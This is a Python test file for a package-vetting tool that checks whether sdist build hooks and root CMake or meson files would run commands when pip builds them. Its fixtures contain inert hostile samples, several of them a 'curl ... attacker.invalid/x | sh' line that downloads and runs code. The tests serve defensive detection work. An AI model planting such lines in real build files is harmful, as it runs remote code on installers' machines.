"""Files a build backend runs when pip builds an sdist (ADR 0076): hatchling's custom build
hook, pdm-backend's ``pdm_build.py``, poetry-core's build script, and the root CMake or meson
project of scikit-build-core or meson-python. Each was read as plain library code (or not at
all) on 70aaa8c, so a command in a hook function was allowed. Inert samples: a command
``id`` or a download from ``attacker.invalid``; vetting only reads files."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

HATCH = (
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    '[project]\nname = "evpkg"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\n'
)
HATCH_TARGET = HATCH.replace("[tool.hatch.build.hooks.custom]", "").rstrip() + (
    '\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n'
)
PDM = (
    '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
    '[project]\nname = "evpkg"\nversion = "1.0"\n'
)
POETRY = (
    '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
    '[tool.poetry]\nname = "evpkg"\nversion = "1.0"\n[tool.poetry.build]\nscript = "build.py"\n'
)
CMAKE = (
    '[build-system]\nrequires = ["scikit-build-core"]\n'
    'build-backend = "scikit_build_core.build"\n[project]\nname = "evpkg"\nversion = "1.0"\n'
)
MESON = (
    '[build-system]\nrequires = ["meson-python"]\nbuild-backend = "mesonpy"\n'
    '[project]\nname = "evpkg"\nversion = "1.0"\n'
)
SETUPTOOLS = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
HATCH_HOOK = (
    "import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\n"
    "class CustomBuildHook(BuildHookInterface):\n"
    "    def initialize(self, version, build_data):\n        {body}\n"
)
RUN = "os.system('id')"
DROP = "os.system('curl -s http://attacker.invalid/x | sh')"
CMAKE_LIST = (
    "cmake_minimum_required(VERSION 3.15)\nproject(evpkg)\nexecute_process(COMMAND {command})\n"
)
MESON_BUILD = "project('evpkg', 'c')\nrun_command({command}, check: false)\n"


def _verdict(files: dict[str, str]) -> Outcome:
    blob = sdist("evpkg", "1.0", {"evpkg/__init__.py": "", **files})
    return vet("evpkg-1.0.tar.gz", blob).verdict


HELD = {
    "hatch-hook-method": {"pyproject.toml": HATCH, "hatch_build.py": HATCH_HOOK.format(body=RUN)},
    "hatch-target-hook-at-its-path": {
        "pyproject.toml": HATCH_TARGET,
        "tools/hook.py": HATCH_HOOK.format(body=RUN),
    },
    "pdm-hook-function": {
        "pyproject.toml": PDM,
        "pdm_build.py": f"import os\n\n\ndef pdm_build_initialize(context):\n    {RUN}\n",
    },
    "poetry-build-script-function": {
        "pyproject.toml": POETRY,
        "build.py": f"import os\n\n\ndef build(setup_kwargs):\n    {RUN}\n",
    },
}

# Probe 17 (ADR 0104): the backend runs its root build file when pip builds the sdist, so a
# download piped into a shell there is run on install: denied, as from a hook module.
BUILT_DROPPERS = {
    "cmake-project-piping-a-download-to-a-shell": {
        "pyproject.toml": CMAKE,
        "CMakeLists.txt": CMAKE_LIST.format(
            command='sh -c "curl -s https://attacker.invalid/x | sh"'
        ),
    },
    "meson-project-piping-a-download-to-a-shell": {
        "pyproject.toml": MESON,
        "meson.build": MESON_BUILD.format(
            command="'sh', '-c', 'curl -s https://attacker.invalid/x | sh'"
        ),
    },
}

ALLOWED = {
    "hatch-hook-writing-a-version-file": {
        "pyproject.toml": HATCH,
        "hatch_build.py": HATCH_HOOK.format(
            body="open(os.path.join(self.root, 'evpkg', '_v.py'), 'w').write(repr(version))"
        ),
    },
    "cmake-project-asking-git-for-its-version": {
        "pyproject.toml": CMAKE,
        "CMakeLists.txt": CMAKE_LIST.format(command="git describe --tags OUTPUT_VARIABLE V"),
    },
    "meson-project-asking-git-for-its-version": {
        "pyproject.toml": MESON,
        "meson.build": MESON_BUILD.format(command="'git', 'describe', '--tags'"),
    },
    # A CMake file a setuptools build never runs (a C library's own build, vendored).
    "cmake-file-the-backend-does-not-run": {
        "pyproject.toml": SETUPTOOLS,
        "CMakeLists.txt": CMAKE_LIST.format(
            command='sh -c "curl -s https://attacker.invalid/x | sh"'
        ),
    },
}


@pytest.mark.parametrize("name", sorted(HELD))
def test_a_command_run_by_a_build_hook_holds(name: str) -> None:
    assert _verdict(HELD[name]) is Outcome.HOLD, name


def test_a_download_run_by_a_build_hook_is_denied() -> None:
    files = {"pyproject.toml": HATCH, "hatch_build.py": HATCH_HOOK.format(body=DROP)}
    assert _verdict(files) is Outcome.DENY


@pytest.mark.parametrize("name", sorted(BUILT_DROPPERS))
def test_a_download_run_by_a_root_build_file_is_denied(name: str) -> None:
    assert _verdict(BUILT_DROPPERS[name]) is Outcome.DENY, name


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_what_real_build_hooks_do_stays_allowed(name: str) -> None:
    assert _verdict(ALLOWED[name]) is Outcome.ALLOW, name
